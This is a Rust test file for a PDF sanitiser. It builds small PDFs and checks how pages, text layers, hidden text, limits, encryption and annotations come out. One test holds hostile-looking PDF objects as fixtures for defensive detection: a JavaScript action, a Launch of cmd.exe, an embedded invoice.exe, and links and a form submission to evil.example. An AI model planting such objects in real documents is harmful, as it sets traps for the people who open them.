//! Small PDFs made here → what comes out, seen from outside: pages, paper, text layer, findings.

#![allow(
    clippy::arithmetic_side_effects,
    clippy::indexing_slicing,
    clippy::string_slice,
    clippy::unwrap_used,
    reason = "helpers of tests, which may fail loudly"
)]

use mail::PartPath;
use policy::{Budget, FindingCode, Findings, Limits, Policy};
use sanitiser::pdf::{self, Reduction};
use sanitiser::{FontFace, Surroundings};
use std::fmt::Write as _;
use std::io::Read as _;
use std::sync::Arc;

/// A machine without CJK fonts.
struct Bare;

impl Surroundings for Bare {
    fn begin(&mut self, _: &PartPath) {}

    fn font(&mut self, _: FontFace) -> Option<(Arc<Vec<u8>>, u32)> {
        None
    }
}

/// A PDF of these objects, numbered from 1; the first is the catalog.
fn document(objects: &[String], trailer: &str) -> Vec<u8> {
    let mut out = "%PDF-1.7\n".to_owned();
    let mut table = String::new();
    for (index, object) in objects.iter().enumerate() {
        writeln!(table, "{:010} 00000 n ", out.len()).unwrap();
        write!(out, "{} 0 obj\n{object}\nendobj\n", index + 1).unwrap();
    }
    let (start, size) = (out.len(), objects.len() + 1);
    write!(out, "xref\n0 {size}\n0000000000 65535 f \n{table}trailer\n<</Root 1 0 R/Size {size}{trailer}>>\nstartxref\n{start}\n%%EOF\n").unwrap();
    out.into_bytes()
}

/// A one-page PDF with a content stream in Helvetica (`/F`), more page keys, more catalog keys and more objects from
/// number 6 on.
fn page(content: &str, keys: &str, catalog: &str, more: &[&str]) -> Vec<u8> {
    let mut objects = vec![
        format!("<</Type/Catalog/Pages 2 0 R{catalog}>>"),
        "<</Type/Pages/Kids[3 0 R]/Count 1>>".to_owned(),
        format!(
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>{keys}>>"
        ),
        format!("<</Length {}>>\nstream\n{content}\nendstream", content.len()),
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>".to_owned(),
    ];
    objects.extend(more.iter().map(|object| (*object).to_owned()));
    document(&objects, "")
}

fn flatten_with(input: &[u8], limits: Limits) -> (Result<Vec<u8>, FindingCode>, Findings) {
    let mut policy = Policy::standard();
    policy.limits = limits;
    let mut findings = Findings::new();
    let mut budget = Budget::new(&limits);
    let result = pdf::flatten(input, &[], &policy, Reduction::None, &mut budget, &mut findings, &mut Bare);
    (result.map(|rewritten| rewritten.octets), findings)
}

fn flatten(input: &[u8]) -> (Vec<u8>, Findings) {
    let (result, findings) = flatten_with(input, Limits::STANDARD);
    (result.unwrap(), findings)
}

/// The inflated content streams, one a page.
fn contents(pdf: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    let mark = b"stream\n";
    for (at, _) in pdf.windows(mark.len()).enumerate().filter(|(_, window)| *window == mark) {
        let mut text = String::new();
        let mut inflater = flate2::read::ZlibDecoder::new(&pdf[at + mark.len()..]);
        if inflater.read_to_string(&mut text).is_ok() && text.starts_with("q ") {
            found.push(text);
        }
    }
    found
}

/// The text of the layer, a word a run.
fn layer(pdf: &[u8]) -> String {
    let mut words = Vec::new();
    for line in contents(pdf).iter().flat_map(|content| content.lines()) {
        if let Some((_, rest)) = line.split_once("Tm<") {
            let hex = rest.trim_end_matches(">Tj");
            let units =
                (0..hex.len()).step_by(4).map(|at| u16::from_str_radix(&hex[at..at + 4], 16).unwrap());
            words.push(char::decode_utf16(units).map(|c| c.unwrap_or('?')).collect::<String>());
        }
    }
    words.concat()
}

const HELLO: &str = "BT /F 20 Tf 20 40 Td (Hello 2 worlds) Tj ET";

#[test]
fn a_page_keeps_its_paper_and_its_words() {
    let (out, findings) = flatten(&page(HELLO, "", "", &[]));
    assert!(findings.is_empty(), "{findings:?}");
    let text = String::from_utf8_lossy(&out);
    assert!(text.contains("/MediaBox[0 0 200 100]") && text.contains("/Width 556/Height 278"));
    assert_eq!(layer(&out), "Hello 2 worlds");
    assert_eq!(contents(&out).len(), 1);
}

#[test]
fn rotation_user_unit_and_crop_box_set_the_paper() {
    let cases = [
        ("/Rotate 90", "[0 0 100 200]"),
        ("/UserUnit 2", "[0 0 400 200]"),
        ("/CropBox[50 10 150.5 90]", "[0 0 100.5 80]"),
        ("/Rotate 270/UserUnit 2/CropBox[0 0 100 100]", "[0 0 200 200]"),
    ];
    for (keys, media_box) in cases {
        let (out, _) = flatten(&page(HELLO, keys, "", &[]));
        assert!(String::from_utf8_lossy(&out).contains(&format!("/MediaBox{media_box}")), "{keys}");
    }
    assert_eq!(cases.len(), 4);
}

#[test]
fn text_that_nobody_sees_is_left_out_and_counted() {
    let cases = [
        ("BT 3 Tr /F 20 Tf 20 40 Td (secret) Tj ET", "rendering mode 3"),
        ("BT 1 g /F 20 Tf 20 40 Td (secret) Tj ET", "white on white"),
        ("BT /F 20 Tf 20 400 Td (secret) Tj ET", "off the page"),
        ("BT /F 20 Tf 20 40 Td (secret) Tj ET 1 g 0 0 200 100 re f", "covered"),
        ("0 0 5 5 re W n BT /F 20 Tf 20 40 Td (secret) Tj ET", "clipped"),
    ];
    for (content, why) in cases {
        let (out, findings) = flatten(&page(content, "", "", &[]));
        assert_eq!(layer(&out), "", "{why}");
        assert_eq!(findings.count(FindingCode::PdfHiddenText), 6, "{why}");
    }
    assert_eq!(cases.len(), 5);
}

#[test]
fn what_is_active_is_counted_and_gone() {
    let input = page(
        HELLO,
        "/Annots[7 0 R]/AA<</O 6 0 R>>",
        "/OpenAction 6 0 R/Names<</EmbeddedFiles<</Names[(a) 8 0 R]>>>>",
        &[
            "<</S/JavaScript/JS(app.alert\\(1\\))>>",
            "<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(http://evil.example/x)>>>>",
            "<</Type/Filespec/F(invoice.exe)/EF<</F 9 0 R>>>>",
            "<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream",
            "<</S/Launch/F(cmd.exe)>>",
            "<</S/SubmitForm/F(http://evil.example/post)>>",
        ],
    );
    let (out, findings) = flatten(&input);
    let expected = [
        (FindingCode::PdfJavaScript, 1),
        (FindingCode::PdfAutoAction, 2),
        (FindingCode::PdfLink, 1),
        (FindingCode::PdfEmbeddedFile, 1),
        (FindingCode::PdfLaunch, 1),
        (FindingCode::PdfSubmit, 1),
    ];
    for (code, count) in expected {
        assert_eq!(findings.count(code), count, "{code:?}");
    }
    assert!(findings.iter().any(|finding| finding.detail == "http://evil.example/x"));
    assert!(findings.iter().any(|finding| finding.detail == "invoice.exe"));
    let text = String::from_utf8_lossy(&out);
    for word in ["JavaScript", "Launch", "EmbeddedFile", "URI", "Annot", "evil"] {
        assert!(!text.contains(word), "{word}");
    }
}

#[test]
fn entered_values_are_shown_although_nobody_drew_them() {
    let input = page(
        "",
        "/Annots[6 0 R]",
        "/AcroForm<</Fields[6 0 R]/NeedAppearances true/DA(/Helv 12 Tf 0 g)>>",
        &["<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(Yamada)/Rect[20 40 180 60]>>"],
    );
    let (out, findings) = flatten(&input);
    assert_eq!(layer(&out), "Yamada");
    assert_eq!(findings.count(FindingCode::AppearanceBuilt), 1);
    assert_eq!(findings.count(FindingCode::PdfForm), 1);
}

#[test]
fn a_japanese_font_that_nobody_has_is_reported() {
    let input = page(
        "BT /J 20 Tf 20 40 Td <93FA967B> Tj ET",
        "/Resources<</Font<</J 6 0 R>>>>",
        "",
        &[
            "<</Type/Font/Subtype/Type0/BaseFont/Ryumin-Light/Encoding/90ms-RKSJ-H/DescendantFonts[7 0 R]>>",
            "<</Type/Font/Subtype/CIDFontType0/BaseFont/Ryumin-Light/CIDSystemInfo<</Registry(Adobe)/Ordering(Japan1)/Supplement 2>>/FontDescriptor<</Type/FontDescriptor/FontName/Ryumin-Light/Flags 4>>>>",
        ],
    );
    let (_, findings) = flatten(&input.replace_resources());
    assert!(
        findings.has(FindingCode::FontMissing) && findings.has(FindingCode::PageIncomplete),
        "{findings:?}"
    );
}

/// Lets the later of two `/Resources` keys of the page stand alone.
trait ReplaceResources {
    fn replace_resources(self) -> Self;
}

impl ReplaceResources for Vec<u8> {
    fn replace_resources(self) -> Self {
        let text = String::from_utf8(self).unwrap();
        text.replace("/Resources<</Font<</F 5 0 R>>>>/Resources", "                               /Resources")
            .into_bytes()
    }
}

#[test]
fn limits_are_met_exactly_and_passed_by_one() {
    let input = page(HELLO, "", "", &[]);
    let with = |limits| flatten_with(&input, limits).0.map(|_| ());
    assert_eq!(with(Limits { pages: 1, ..Limits::STANDARD }), Ok(()));
    assert_eq!(with(Limits { pages: 0, ..Limits::STANDARD }), Err(FindingCode::LimitPages));
    assert_eq!(with(Limits { text_chars: 14, ..Limits::STANDARD }), Ok(()));
    assert_eq!(with(Limits { text_chars: 13, ..Limits::STANDARD }), Err(FindingCode::LimitText));
    assert_eq!(with(Limits { total_px: 556 * 278, ..Limits::STANDARD }), Ok(()));
    assert_eq!(
        with(Limits { total_px: 556 * 278 - 1, ..Limits::STANDARD }),
        Err(FindingCode::LimitTotalPixels)
    );
    assert_eq!(with(Limits { output_octets: 100, ..Limits::STANDARD }), Err(FindingCode::LimitOutput));
    let (result, findings) = flatten_with(&input, Limits { page_side_px: 100, ..Limits::STANDARD });
    assert!(result.is_ok() && findings.has(FindingCode::ResolutionReduced));
}

#[test]
fn rubbish_is_unreadable_and_the_same_input_gives_the_same_output() {
    for rubbish in [b"".as_slice(), b"%PDF-1.7\n", b"MZ\x90"] {
        assert_eq!(flatten_with(rubbish, Limits::STANDARD).0, Err(FindingCode::Unreadable));
    }
    let input = page(HELLO, "", "", &[]);
    assert_eq!(flatten(&input).0, flatten(&input).0);
}

#[test]
fn our_own_output_goes_through_again_with_the_same_pages() {
    let (once, _) = flatten(&page(HELLO, "", "", &[]));
    let (twice, findings) = flatten(&once);
    assert_eq!(layer(&once), layer(&twice));
    assert!(findings.gravest() == policy::Severity::Info, "{findings:?}");
    assert_eq!(contents(&once).len(), contents(&twice).len());
    let paper = |pdf: &[u8]| String::from_utf8_lossy(pdf).matches("/MediaBox[0 0 200 100]").count();
    assert_eq!((paper(&once), paper(&twice)), (1, 1));
}

#[test]
fn a_page_listed_twice_and_a_missing_one_count_as_readers_count_them() {
    let objects = [
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R 3 0 R 9 0 R]/Count 3/MediaBox[0 0 200 100]>>",
        "<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
        "<</Length 47>>\nstream\nBT /F 20 Tf 20 40 Td (Hello 2 worlds) Tj ET   \nendstream",
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ];
    let (out, findings) = flatten(&document(&objects.map(str::to_owned), ""));
    assert_eq!(contents(&out).len(), 3);
    assert_eq!(layer(&out), "Hello 2 worldsHello 2 worlds");
    assert_eq!(findings.count(FindingCode::PageIncomplete), 1);
}

#[test]
fn pages_that_only_the_count_knows_are_empty_sheets_within_the_limit() {
    let promising = |count: &str, kids: &str| {
        let objects = [
            "<</Type/Catalog/Pages 2 0 R>>".to_owned(),
            format!("<</Type/Pages/Kids[{kids}]/Count {count}>>"),
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 20 10]>>".to_owned(),
        ];
        flatten_with(&document(&objects, ""), Limits { pages: 5, ..Limits::STANDARD })
    };
    let sheets = |pdf: &[u8]| String::from_utf8_lossy(pdf).matches("/MediaBox[0 0 20 10]").count();
    let cases = [("0", 1), ("1", 1), ("3", 3), ("5", 5), ("6", 1), ("99999999999", 1), ("-3", 1)];
    for (count, expected) in cases {
        let (result, findings) = promising(count, "3 0 R");
        assert_eq!(sheets(&result.unwrap()), expected, "{count}");
        assert_eq!(
            findings.count(FindingCode::PageIncomplete),
            u32::try_from(expected).unwrap() - 1,
            "{count}"
        );
    }
    assert_eq!(cases.len(), 7);
    assert_eq!(promising("6", "").0, Err(FindingCode::Unreadable));
}

#[test]
fn a_highlight_without_appearance_leaves_the_text_readable() {
    let input = page(
        HELLO,
        "/Annots[6 0 R 7 0 R 8 0 R]",
        "",
        &[
            "<</Type/Annot/Subtype/Highlight/Rect[20 35 160 60]/QuadPoints[20 60 160 60 20 35 160 35]/C[1 1 0]>>",
            "<</Type/Annot/Subtype/FreeText/Rect[20 70 160 90]/Contents(Note)/DA(/Helv 10 Tf 1 0 0 rg)>>",
            "<</Type/Annot/Subtype/Stamp/Rect[0 0 10 10]>>",
        ],
    );
    let (out, findings) = flatten(&input);
    assert_eq!(layer(&out), "Hello 2 worldsNote");
    assert_eq!(findings.count(FindingCode::AppearanceBuilt), 2);
    assert_eq!(findings.count(FindingCode::PageIncomplete), 1);
}

#[test]
fn a_locked_file_asks_for_its_password() {
    // The empty document of RC4 with a user password that is not given: hayro and lopdf must both refuse it.
    let objects = [
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    ];
    let key = "28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A";
    let trailer = format!("/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<{key}>/U<{key}>>>");
    let (result, _) = flatten_with(&document(&objects.map(str::to_owned), &trailer), Limits::STANDARD);
    assert_eq!(result, Err(FindingCode::Locked));
}

#[test]
fn annotations_in_the_list_itself_and_outside_their_rectangle_are_shown() {
    let free_text =
        "<</Type/Annot/Subtype/FreeText/Rect[20 70 160 90]/Contents(Note)/DA(/Helv 10 Tf 1 0 0 rg)>>";
    let highlight =
        "<</Type/Annot/Subtype/Highlight/Rect[500 500 600 600]/QuadPoints[20 60 160 60 20 35 160 35]>>";
    let (out, findings) = flatten(&page(HELLO, &format!("/Annots[{free_text}{highlight}]"), "", &[]));
    assert_eq!(layer(&out), "Hello 2 worldsNote");
    assert_eq!(findings.count(FindingCode::AppearanceBuilt), 2);
    assert_eq!(findings.count(FindingCode::PageIncomplete), 0);
    let (plain, _) = flatten(&page(HELLO, &format!("/Annots[{free_text}]"), "", &[]));
    assert_ne!(out, plain, "the highlight is not to be seen");
}

#[test]
fn a_lock_on_the_attachments_alone_does_not_lock_the_pages() {
    let key = "00".repeat(48);
    let lock = |filters: &str| {
        format!(
            "/ID[<00><00>]/Encrypt<</Filter/Standard/V 5/R 6/Length 256/P -1028/EncryptMetadata false/CF<</StdCF<</CFM/AESV3/AuthEvent/EFOpen/Length 32>>>>/EFF/StdCF{filters}/O<{key}>/U<{key}>/OE<{key}>/UE<{key}>/Perms<{key}>>>"
        )
    };
    let locked = |filters: &str| {
        let objects = [
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
            "<</Length 44>>\nstream\nBT /F 20 Tf 20 40 Td (Hello 2 worlds) Tj ET\nendstream",
            "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        ];
        flatten_with(&document(&objects.map(str::to_owned), &lock(filters)), Limits::STANDARD)
    };
    for filters in ["/StmF/Identity/StrF/Identity", ""] {
        let (result, findings) = locked(filters);
        assert_eq!(layer(&result.unwrap()), "Hello 2 worlds", "{filters}");
        assert!(findings.has(FindingCode::PdfEncryptionDropped));
    }
    for filters in ["/StmF/StdCF/StrF/StdCF", "/StmF/Identity/StrF/StdCF"] {
        assert_eq!(locked(filters).0, Err(FindingCode::Locked), "{filters}");
    }
}
